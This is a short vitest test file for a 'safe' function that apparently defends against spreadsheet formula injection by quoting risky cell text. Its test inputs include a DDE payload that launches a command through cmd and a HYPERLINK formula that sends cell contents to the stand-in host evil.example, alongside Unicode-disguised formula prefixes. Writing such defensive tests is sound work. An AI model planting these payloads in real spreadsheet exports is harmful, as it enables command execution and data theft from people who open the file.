import { expect, test } from 'vitest'
import { safe } from './cells.ts'

const formulas = [
  '=1+1',
  ' =1+1',
  '\n=1+1',
  '\t=1+1',
  '\u00A0=1+1',
  '\u200B=1+1',
  '\uFEFF=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '@SUM(A1)',
  '+1',
  '-1+1',
  "|cmd ' /c calc'!A0",
  '%0A=1',
  'Lea;=1+1',
  'Lea, =1+1',
  'Lea\t@SUM(A1)',
  'Lea\r\n=1+1',
  `=HYPERLINK("https://evil.example?"&A1,"Lea")`,
]
test.each(formulas)('R31 %j does not begin a formula', (text) => {
  expect(safe(text)).toBe(`'${text}`)
})

test.each(['Lea', "O'Neil", 'lea+courses@example.org', '2026-11-23', 'a = b', '50 %', '', 'Ünal, Lea'])(
  'R31 %j stays as it is',
  (text) => {
    expect(safe(text)).toBe(text)
  },
)
